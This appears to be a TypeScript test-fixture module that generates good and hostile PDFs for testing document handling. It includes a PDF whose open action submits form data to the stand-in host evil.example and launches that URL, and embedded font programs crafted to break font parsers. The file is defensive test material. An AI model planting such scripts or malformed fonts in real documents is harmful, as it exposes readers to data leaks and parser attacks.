// Good and hostile PDFs for the document tests, generated on the fly (no binaries in the repository): a plain
// document, a truncated one, other files renamed .pdf, a document with JavaScript actions, one whose embedded font
// programs are garbage, an encrypted one and one with too many pages.
import {
  PDFDocument,
  PDFName,
  PDFNumber,
  PDFOperator,
  PDFOperatorNames,
  PDFString,
  StandardFonts,
  beginText,
  endText,
  moveText,
  setFontAndSize,
} from 'pdf-lib';

export async function plainPdf(pages = 2, text = 'Tai lieu hop'): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.TimesRoman);
  for (let i = 0; i < pages; i++) doc.addPage([595, 842]).drawText(`${text} - trang ${i + 1}`, { x: 72, y: 760, font });
  return doc.save();
}

/** The first `fraction` of a valid PDF, as an interrupted copy leaves it. */
export function truncated(bytes: Uint8Array, fraction = 0.6): Uint8Array {
  return bytes.slice(0, Math.floor(bytes.byteLength * fraction));
}

/** A PNG image's bytes (what a misnamed "scan.pdf" often is). */
export function pngBytes(): Uint8Array {
  const header = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52];
  return new Uint8Array([...header, ...new Array(200).fill(7)]);
}

/** The start of a Word document (a ZIP with word/document.xml). */
export function docxBytes(): Uint8Array {
  const name = Buffer.from('word/document.xml');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(name.length, 26);
  return new Uint8Array(Buffer.concat([local, name, Buffer.alloc(300, 0x20)]));
}

/** JavaScript on open (OpenAction), in the document's name tree and on a link annotation. */
export async function javascriptPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595, 842]);
  page.drawText('Tai lieu co JavaScript', { x: 72, y: 760, font: await doc.embedFont(StandardFonts.Helvetica) });
  const ctx = doc.context;
  const action = (js: string) => ctx.register(ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(js) }));
  doc.catalog.set(
    PDFName.of('OpenAction'),
    action("app.alert('mo tai lieu'); this.submitForm('http://evil.example/')"),
  );
  doc.catalog.set(
    PDFName.of('Names'),
    ctx.obj({
      JavaScript: ctx.obj({ Names: [PDFString.of('init'), action('app.launchURL("http://evil.example/")')] }),
    }),
  );
  const link = ctx.register(
    ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 700, 300, 720], Border: [0, 0, 0], A: action('app.beep(0)') }),
  );
  page.node.set(PDFName.of('Annots'), ctx.obj([link]));
  return doc.save({ useObjectStreams: false });
}

/**
 * A page set in three fonts whose embedded programs are hostile: a TrueType table directory claiming 65535 tables
 * at absurd offsets, a CFF whose INDEX claims billions of entries, and a Type 1 font of random bytes.
 */
export async function maliciousFontPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595, 842]);
  const ctx = doc.context;
  const trueType = Buffer.alloc(4096, 0xff);
  trueType.writeUInt32BE(0x00010000, 0);
  trueType.writeUInt16BE(0xffff, 4);
  for (let i = 0; i < 200; i++) {
    trueType.write(['glyf', 'loca', 'head', 'cmap', 'hmtx'][i % 5]!, 12 + i * 16, 'latin1');
    trueType.writeUInt32BE(0xfffffff0 - i, 12 + i * 16 + 8);
    trueType.writeUInt32BE(0x7fffffff, 12 + i * 16 + 12);
  }
  const cff = Buffer.from([1, 0, 4, 1, 0xff, 0xff, 4, 0xff, 0xff, 0xff, 0xff, ...new Array(500).fill(0xfe)]);
  let seed = 12345;
  const type1 = Buffer.from(
    Array.from({ length: 3000 }, () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) & 0xff),
  );
  const fonts: [string, string, string, Buffer][] = [
    ['F1', 'TrueType', 'FontFile2', trueType],
    ['F2', 'Type1', 'FontFile3', cff],
    ['F3', 'Type1', 'FontFile', type1],
  ];
  let y = 760;
  for (const [name, subtype, key, program] of fonts) {
    const file = ctx.register(
      ctx.stream(program, {
        Length1: program.length,
        ...(key === 'FontFile3' ? { Subtype: 'Type1C' } : {}),
        ...(key === 'FontFile' ? { Length2: program.length, Length3: 0 } : {}),
      }),
    );
    const descriptor = ctx.register(
      ctx.obj({
        Type: 'FontDescriptor',
        FontName: `Evil${name}`,
        Flags: 32,
        FontBBox: [0, -200, 1000, 900],
        ItalicAngle: 0,
        Ascent: 800,
        Descent: -200,
        CapHeight: 700,
        StemV: 80,
        [key]: file,
      }),
    );
    const font = ctx.register(
      ctx.obj({
        Type: 'Font',
        Subtype: subtype,
        BaseFont: `Evil${name}`,
        FirstChar: 32,
        LastChar: 126,
        Widths: new Array(95).fill(500),
        FontDescriptor: descriptor,
        Encoding: 'WinAnsiEncoding',
      }),
    );
    page.node.setFontDictionary(PDFName.of(name), font);
    page.pushOperators(
      beginText(),
      setFontAndSize(name, 24),
      moveText(72, y),
      PDFOperator.of(PDFOperatorNames.ShowText, [PDFString.of(`Phong chu ${name}`)]),
      endText(),
    );
    y -= 60;
  }
  return doc.save({ useObjectStreams: false });
}

/** Encrypted with the standard security handler; no password we know opens it, so a reader must ask for one. */
export async function encryptedPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.addPage([595, 842]);
  const ctx = doc.context;
  const filler = (byte: number) => PDFString.of(String.fromCharCode(...new Array(32).fill(byte)));
  const encrypt = ctx.register(
    ctx.obj({ Filter: 'Standard', V: 1, R: 2, Length: 40, O: filler(0x41), U: filler(0x42), P: PDFNumber.of(-44) }),
  );
  ctx.trailerInfo.Encrypt = encrypt;
  ctx.trailerInfo.ID = ctx.obj([PDFString.of('0123456789abcdef'), PDFString.of('0123456789abcdef')]);
  return doc.save({ useObjectStreams: false });
}
